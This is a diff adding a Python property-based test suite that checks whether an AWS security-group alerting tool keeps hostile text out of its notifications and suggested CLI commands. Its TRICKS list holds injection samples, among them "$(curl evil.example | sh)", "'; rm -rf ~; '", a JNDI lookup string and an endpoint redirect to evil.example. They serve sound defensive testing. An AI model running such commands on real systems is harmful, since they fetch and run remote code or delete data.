@@ -1,0 +1,453 @@
+"""Somebody else's text, whatever it is and wherever it stands, is only ever text, in every form."""
+
+import json
+import re
+import shlex
+from collections.abc import Callable, Iterator
+from functools import cached_property
+from itertools import count
+from typing import Any, Final
+from urllib.parse import unquote, urlsplit
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from jsonschema import Draft202012Validator
+from py_ocsf_models.events.findings.detection_finding import (  # type: ignore[import-untyped]
+    DetectionFinding,
+)
+
+from security_group_alerter.accounts import AccountFacts
+from security_group_alerter.messages import LARGEST_MESSAGE, Message
+from tests.security_group_alerter.messages.forms import CALLS, PLAIN, texts_of
+from tests.stories import ROOT, SETTINGS, STORIES, findings_of, story, told
+
+# What is hostile ---------------------------------------------------------------------------------
+
+TRICKS: Final = (
+    "<!channel>",
+    "<!here> @here @channel",
+    "<@U012AB3CD>",
+    "<https://evil.example|click here to close the alert>",
+    "[all clear](https://evil.example)",
+    "`*_~ &lt;!channel&gt; #general",
+    "```",
+    "\nWHO\n  Principal      jane.doe@example.com",
+    "\r\nSubject: all clear",
+    "WHO\u2028  Principal      nobody\x85UNDO\u2029  aws ec2 delete-vpc",
+    "*Where:* nowhere\n*Who:* nobody",
+    "\u202egpj.exe\u202c \u2066\u2067\u2068\u2069 \u200f\u061c",
+    "\x1b[2J\x1b[31m\x07\x00\x9b",
+    "\ud800",
+    "\udcff\udc80 \ud83d",
+    "'; rm -rf ~; '",
+    "$(curl evil.example | sh)",
+    "--endpoint-url=https://evil.example",
+    "sg-0123456789abcdef0 --profile root",
+    "sg-0123456789abcdef0\n",
+    "eu-central-1.evil.example/",
+    "../../../../?x=1&y=2#z",
+    '"},"severity":"Informational"}',
+    "%s %n {0} ${jndi:ldap://evil.example/a} {region}",
+    "\U000e0041\U000e0042 \u200b\ufeff\u00ad",
+    "None",
+    "🔥",
+    "\U0010ffff",
+    "\ufdfa",
+    "\u05d0\u0627",
+    "x y",
+)
+ANY_TEXT: Final = st.text(st.characters())
+HOSTILE: Final = st.one_of(
+    st.sampled_from(TRICKS),
+    ANY_TEXT,
+    st.builds("{}{}{}".format, ANY_TEXT, st.sampled_from(TRICKS), ANY_TEXT),
+    st.builds(lambda text, times: text * times, st.sampled_from(TRICKS), st.integers(50, 1000)),
+    st.builds(lambda char, times: char * times, st.characters(), st.integers(100, 30_000)),
+)
+# These decide what a record is about; all other texts in it are given by somebody else.
+KEPT: Final = {"eventName", "eventSource", "type", "ipProtocol", "IpProtocol"}
+CIDRS: Final = {"cidrIp", "cidrIpv4", "cidrIpv6", "CidrIp", "CidrIpv6", "Cidr"}
+RECORDS: Final = [story(name) for name in STORIES]
+
+
+class LogEvent:
+    """A log event with somebody's texts in it, in an account with such names, and what is told."""
+
+    def __init__(self, log_event: str | dict[str, Any], text: str) -> None:
+        self.log_event, self.text = log_event, text
+
+    def __repr__(self) -> str:
+        return f"LogEvent({self.log_event!r}, {self.text!r})"
+
+    @cached_property
+    def messages(self) -> list[Message]:
+        return self.told_with(str)
+
+    def told_with(self, change: Callable[[str], str]) -> list[Message]:
+        """What is told of the same log event, in which every text is changed."""
+        log_event, text = with_every_text(self.log_event, change), change(self.text)
+        facts = AccountFacts(
+            name=text, state=text, ou_path=(text, text), tags={"Owner": text}, problems=(text,)
+        )
+        portal = SETTINGS if len(self.text) % 2 else PLAIN
+        return list(told(findings_of(log_event), facts=facts, settings=portal))
+
+    def texts(self, form: str) -> list[str]:
+        return [texts_of(message)[form] for message in self.messages]
+
+
+def with_every_text(value: Any, change: Callable[[str], str], key: str = "") -> Any:
+    """The record with every text in it changed, but for those that decide what it is about."""
+    if isinstance(value, dict):
+        return {name: with_every_text(member, change, name) for name, member in value.items()}
+    if isinstance(value, list):
+        return [with_every_text(item, change, key) for item in value]
+    is_kept = key in KEPT or key in CIDRS or not isinstance(value, str)
+    return value if is_kept else change(value)
+
+
+@st.composite
+def hostile_log_events(draw: st.DrawFn) -> LogEvent:
+    """A story in which some texts, or all, are replaced; sometimes no record at all."""
+    text, another = draw(HOSTILE), draw(HOSTILE)
+    if draw(st.integers(0, 9)) == 0:
+        return LogEvent(text, another)
+    choose = draw(st.randoms(use_true_random=False))
+    share = draw(st.sampled_from([0.2, 0.6, 1.0]))
+
+    def replaced(value: str) -> str:
+        return choose.choice((text, another)) if choose.random() < share else value
+
+    record = draw(st.sampled_from(RECORDS))
+    if draw(st.booleans()):
+        record = record | {"errorCode": "Client.Whatever", "errorMessage": text}
+    return LogEvent(with_every_text(record, replaced), draw(st.sampled_from((text, another))))
+
+
+# What every form holds ---------------------------------------------------------------------------
+
+
+def assert_message_as_amazon_sns_wants_it(log_event: LogEvent) -> None:
+    assert log_event.messages
+    for message in log_event.messages:
+        sent = len(message.body.encode()) + len(message.subject.encode())
+        sent += sum(
+            len(f"{name}String{value}".encode()) for name, value in message.attributes.items()
+        )
+        assert sent == message.size <= LARGEST_MESSAGE
+        texts = texts_of(message)
+        assert texts.keys() == {"default", "email", "https", "sms"}
+        assert all(text.encode() for text in texts.values())
+
+
+def assert_subject(log_event: LogEvent) -> None:
+    for message in log_event.messages:
+        assert re.match(r"(CRITICAL|HIGH|MEDIUM|LOW|INFORMATIONAL): .*\w", message.subject)
+        assert message.subject.isprintable()
+        # However characters are counted: as code points, or in UTF-16 as Java does.
+        assert len(message.subject.encode("utf-16-le")) / 2 < 100
+
+
+def assert_attributes(log_event: LogEvent) -> None:
+    for message in log_event.messages:
+        assert len(message.attributes) <= 10
+        for name, value in message.attributes.items():
+            assert re.fullmatch(r"[a-z_]+", name)
+            assert value
+            assert value.isprintable()
+            assert len(value) <= 200
+        assert message.attributes.get("account_id", "0" * 12).isascii()
+
+
+TITLES: Final = (
+    *("WHERE", "WHO", "WHEN", "UNDO", "LOOK", "LINKS", "CLOUDTRAIL EVENT", "WHAT CHANGED"),
+    "WHAT WAS ATTEMPTED AND DENIED: NOTHING CHANGED",
+    "WHAT WAS ATTEMPTED AND FAILED: NOTHING CHANGED",
+    "WHAT WAS TRIED AS A DRY RUN: NOTHING CHANGED",
+)
+LABELS: Final = (
+    *("Account", "State", "OU", "Region", "Organization", "Not available"),
+    *("Principal", "How", "MFA", "Access key", "Called", "Last call", "Seen"),
+)
+
+
+def assert_email(log_event: LogEvent) -> None:
+    for text in log_event.texts("email"):
+        assert all(line.isprintable() for line in text.split("\n"))
+        headline, *sections = text.removesuffix("\n").split("\n\n")
+        assert re.match(r"(CRITICAL|HIGH|MEDIUM|LOW|INFORMATIONAL): ", headline)
+        # Nothing that was typed by somebody else looks like a header or a label of ours.
+        titles = [section.split("\n")[0] for section in sections]
+        assert set(titles) <= set(TITLES)
+        assert len(set(titles)) == len(titles)
+        lines = [line for section in sections for line in section.split("\n")[1:]]
+        assert all(line.startswith("  ") for line in lines)
+        for label in LABELS:
+            assert sum(line.startswith(f"  {label:<15}") for line in lines) <= 1
+
+
+SCHEMA: Final = Draft202012Validator(
+    json.loads((ROOT / "tests" / "schemas" / "custom_notification.schema.json").read_text("utf-8"))
+)
+# What means something to Slack or Teams.
+MARKUP: Final = "<>`*~|@[]&#"
+WITHOUT_MARKUP: Final = str.maketrans(MARKUP, "x" * len(MARKUP))
+
+
+def texts_in(value: object) -> Iterator[str]:
+    if isinstance(value, dict):
+        value = [*value, *value.values()]
+    if isinstance(value, list):
+        for item in value:
+            yield from texts_in(item)
+    else:
+        assert isinstance(value, str)
+        yield value
+
+
+def assert_chat(log_event: LogEvent) -> None:
+    for text in log_event.texts("https"):
+        notification = json.loads(text)
+        SCHEMA.validate(notification)
+        lines = notification["content"].pop("description").split("\n")
+        for line in (*lines, *texts_in(notification)):
+            assert line.isprintable()
+            assert not re.search("[<>]", line)
+        assert [line.startswith("*Where:* ") for line in lines].count(True) == 1
+        assert [line.startswith("*Who:* ") for line in lines].count(True) == 1
+        assert not any("://" in line for line in lines)
+
+
+def assert_all_markup_in_chat_is_ours(log_event: LogEvent) -> None:
+    """Whether or not the texts hold markup, the notification holds as much of it."""
+    harmless = log_event.told_with(lambda text: text.translate(WITHOUT_MARKUP))
+
+    for text, message in zip(log_event.texts("https"), harmless, strict=True):
+        other = texts_of(message)["https"]
+        for char in MARKUP:
+            assert apart_from_links(text).count(char) == apart_from_links(other).count(char), char
+
+
+def apart_from_links(text: str) -> str:
+    return re.sub(r"https://[^ \"]+", "", text)
+
+
+def assert_sms(log_event: LogEvent) -> None:
+    for text in log_event.texts("sms"):
+        assert text.isascii()
+        assert text.isprintable()
+        assert len(text) <= 140
+        assert re.match(r"(CRITICAL|HIGH|MEDIUM|LOW|INFORMATIONAL) .*\w", text)
+
+
+def assert_machine(log_event: LogEvent) -> None:
+    for text in log_event.texts("default"):
+        # Strictly, as a program that is not written in Python reads it.
+        document = DetectionFinding.model_validate_json(text)
+        assert document.severity_id in range(1, 6)
+        json.dumps(json.loads(text), ensure_ascii=False).encode()
+
+
+# Commands and links ------------------------------------------------------------------------------
+
+IDS: Final = {
+    "--region": r"[a-z]{2,}(-[a-z0-9]+)+",
+    "--group-id": r"sg-[0-9a-f]{8,17}",
+    "--vpc-id": r"vpc-[0-9a-f]{8,17}",
+    "--prefix-list-id": r"pl-[0-9a-f]{8,17}",
+    "--previous-version": r"[1-9][0-9]{0,9}",
+    "--current-version": r"[1-9][0-9]{0,9}",
+    "--security-group-rule-ids": r"sgr-[0-9a-f]{8,17}",
+    "--filters": r"Name=group-id,Values=sg-[0-9a-f]{8,17}(,sg-[0-9a-f]{8,17})*",
+    "--name": r"(arn:aws[a-z-]*:cloudtrail:[a-z0-9-]+:[0-9]{12}:trail/)?"
+    r"[A-Za-z0-9][A-Za-z0-9._-]{2,127}",
+}
+COMMANDS: Final = (
+    *("revoke-security-group-ingress", "revoke-security-group-egress"),
+    *("authorize-security-group-ingress", "authorize-security-group-egress"),
+    *("delete-security-group", "associate-security-group-vpc", "disassociate-security-group-vpc"),
+    *("delete-managed-prefix-list", "restore-managed-prefix-list-version", "start-logging"),
+    *("describe-network-interfaces", "describe-security-group-rules"),
+)
+PERMISSION: Final = {
+    "IpProtocol": r"-1|[a-z0-9]{1,10}",
+    "FromPort": r"-1|[0-9]{1,5}",
+    "ToPort": r"-1|[0-9]{1,5}",
+    "CidrIp": r"[0-9.]+/[0-9]+",
+    "CidrIpv6": r"[0-9a-f:.]+/[0-9]+",
+    "PrefixListId": IDS["--prefix-list-id"],
+    "GroupId": IDS["--group-id"],
+    "UserId": r"[0-9]{12}",
+}
+
+
+def assert_is_of_ids(command: str) -> None:
+    """Every word is one of ours, or of the form that AWS gives its ids."""
+    aws, service, call, *words = shlex.split(command)
+    assert aws == "aws"
+    assert service == ("cloudtrail" if call == "start-logging" else "ec2")
+    assert call in COMMANDS
+    option = ""
+    for word in words:
+        if word in IDS or word == "--ip-permissions":
+            option = word
+        elif option == "--ip-permissions":
+            assert_permissions(json.loads(word))
+        else:
+            assert re.fullmatch(IDS[option], word)
+
+
+def assert_permissions(value: Any, key: str = "") -> None:
+    if isinstance(value, dict):
+        for name, member in value.items():
+            assert_permissions(member, name)
+    elif isinstance(value, list):
+        for item in value:
+            assert_permissions(item, key)
+    else:
+        assert re.fullmatch(PERMISSION[key], str(value))
+
+
+def commands_in(message: Message) -> Iterator[str]:
+    texts = texts_of(message)
+    sections = dict(part.split("\n", 1) for part in texts["email"].split("\n\n")[1:])
+    for title in ("UNDO", "LOOK"):
+        yield from re.findall(r"^  (?:\d+\. )?(aws .*)$", sections.get(title, ""), re.MULTILINE)
+    steps = json.loads(texts["https"])["content"]["nextSteps"]
+    yield from (step.split("`")[1] for step in steps if "`" in step)
+    desc = json.loads(texts["default"])["remediation"]["desc"]
+    yield from (line for line in desc.split("\n") if line.startswith("aws "))
+
+
+def links_in(message: Message) -> Iterator[str]:
+    texts = texts_of(message)
+    sections = dict(part.split("\n", 1) for part in texts["email"].split("\n\n")[1:])
+    for line in sections.get("LINKS", "").splitlines():
+        yield line.split("  ")[-1]
+    steps = json.loads(texts["https"])["content"]["nextSteps"]
+    yield from (step.split(": ", 1)[1] for step in steps if "`" not in step)
+    yield from json.loads(texts["default"])["remediation"].get("references", [])
+
+
+def assert_leads_to_the_console(link: str) -> None:
+    assert re.fullmatch(r"https://[A-Za-z0-9\-._~:/?#&=%]+", link)
+    portal = "https://d-1234567890.awsapps.com/start/#/console?account_id="
+    if link.startswith(portal):
+        account, role, destination = link.removeprefix(portal).split("&")
+        assert re.fullmatch(r"[0-9]{12}", account)
+        assert role == "role_name=SecurityAudit"
+        link = unquote(destination.removeprefix("destination="))
+    host, *labels = (urlsplit(link).hostname or "").split(".", 1)
+    assert re.fullmatch(IDS["--region"], host)
+    assert labels[0] in (
+        "console.aws.amazon.com",
+        "console.amazonaws.cn",
+        "console.amazonaws-us-gov.com",
+    )
+
+
+def assert_commands_are_made_of_ids_only(log_event: LogEvent) -> None:
+    for message in log_event.messages:
+        for command in commands_in(message):
+            assert_is_of_ids(command)
+
+
+def assert_links_lead_to_the_console(log_event: LogEvent) -> None:
+    for message in log_event.messages:
+        for link in links_in(message):
+            assert_leads_to_the_console(link)
+
+
+# Everywhere --------------------------------------------------------------------------------------
+
+CHECKS: Final = (
+    assert_message_as_amazon_sns_wants_it,
+    assert_subject,
+    assert_attributes,
+    assert_email,
+    assert_chat,
+    assert_all_markup_in_chat_is_ours,
+    assert_sms,
+    assert_machine,
+    assert_commands_are_made_of_ids_only,
+    assert_links_lead_to_the_console,
+)
+# All that is hostile, in few characters.
+NASTY: Final = "\n<!x>`\u202e\ud800'; --y"
+
+
+@settings(deadline=None, max_examples=200, suppress_health_check=[HealthCheck.too_slow])
+@given(hostile_log_events())
+def test_any_texts(log_event: LogEvent) -> None:
+    for check in CHECKS:
+        check(log_event)
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_trick_in_every_text(trick: str) -> None:
+    for name in CALLS:
+        log_event = LogEvent(with_every_text(story(name), lambda _: trick), trick)
+        for check in CHECKS:
+            check(log_event)
+
+
+@pytest.mark.parametrize("name", CALLS)
+def test_one_nasty_text_among_good_ones(name: str) -> None:
+    for changed in range(count_of_texts(story(name))):
+        numbers = count()
+
+        def nasty(text: str, changed: int = changed, numbers: Iterator[int] = numbers) -> str:
+            if next(numbers) != changed:
+                return text
+            return text + NASTY if len(text) < 40 else NASTY
+
+        log_event = LogEvent(with_every_text(story(name), nasty), "payments")
+        for check in CHECKS:
+            check(log_event)
+
+
+def count_of_texts(record: dict[str, Any]) -> int:
+    texts: list[str] = []
+    with_every_text(record, lambda text: texts.append(text) or text)
+    return len(texts)
+
+
+@pytest.mark.parametrize("name", STORIES)
+def test_stories_have_commands_and_links_of_that_form(name: str) -> None:
+    [message] = told(findings_of(story(name)))
+
+    for command in commands_in(message):
+        assert_is_of_ids(command)
+    assert [*links_in(message)]
+    for link in links_in(message):
+        assert_leads_to_the_console(link)
+
+
+def test_stories_have_commands_of_every_kind() -> None:
+    messages = [message for name in STORIES for message in told(findings_of(story(name)))]
+
+    commands = {shlex.split(it)[2] for message in messages for it in commands_in(message)}
+
+    assert commands >= set(COMMANDS) - {"authorize-security-group-egress"}
+    assert commands <= set(COMMANDS)
+
+
+@pytest.mark.parametrize("digits", ["\u0661" * 12, "\uff11" * 12], ids=["arabic", "fullwidth"])
+def test_digits_of_other_scripts_make_no_account_id(digits: str) -> None:
+    record = story("ssh-opened-to-the-world-from-the-console")
+    record["recipientAccountId"] = record["userIdentity"]["accountId"] = digits
+
+    [message] = told(findings_of(record))
+
+    assert message.attributes["account_id"] == "222233334444"
+    assert digits not in message.body
+    assert json.dumps(digits)[1:-1] not in message.body
+
+
+def test_tag_with_a_long_name_is_told_apart_from_its_value() -> None:
+    facts = AccountFacts(tags={"BusinessUnitOwner": "payments"})
+
+    [message] = told(findings_of(RECORDS[0]), facts=facts)
+
+    assert "\n  BusinessUnitOwner payments\n" in texts_of(message)["email"]
